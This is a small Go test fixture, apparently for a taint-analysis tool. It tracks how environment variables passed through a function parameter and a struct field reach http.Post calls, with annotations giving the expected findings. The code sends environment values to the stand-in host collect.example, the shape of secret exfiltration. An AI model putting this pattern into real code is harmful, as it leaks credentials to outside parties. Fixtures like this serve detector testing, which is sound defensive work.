// Functions of libraries that are called through parameters and fields.
package main

import (
	"io"
	"net/http"
	"os"
	"strings"
)

type poster func(url, kind string, body io.Reader) (*http.Response, error)

func each(post poster, text string) {
	post("https://collect.example/", "text/plain", strings.NewReader(text)) //~ sink(egress.http) o1, finding(traced) o1
}

type client struct {
	post poster
}

func (c *client) deliver(text string) {
	c.post("https://collect.example/", "text/plain", strings.NewReader(text)) //~ sink(egress.http) o2, finding(traced) o2
}

func main() {
	each(http.Post, os.Getenv("A")) //~ source(ENVIRONMENT) o1
	c := &client{post: http.Post}
	c.deliver(os.Getenv("B")) //~ source(ENVIRONMENT) o2
}
